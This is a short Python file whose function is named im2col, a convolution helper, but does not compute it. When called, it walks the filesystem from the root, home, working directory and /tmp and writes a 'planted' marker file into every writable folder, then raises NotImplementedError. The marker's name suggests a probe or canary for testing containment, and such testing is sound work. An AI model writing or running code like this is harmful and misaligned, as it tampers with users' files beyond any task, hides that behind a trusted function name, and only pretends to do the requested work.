"""Tries to leave a file in every folder it can reach."""
import os

NAME = "MINIDENSE_HOSTILE_MARK.txt"


def im2col(x, kh, kw, stride=1, padding=0):
    for top in ("/", os.path.expanduser("~"), os.getcwd(), "/tmp"):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "dev")]
            try:
                with open(os.path.join(folder, NAME), "w") as file:
                    file.write("planted")
            except OSError:
                pass
    raise NotImplementedError
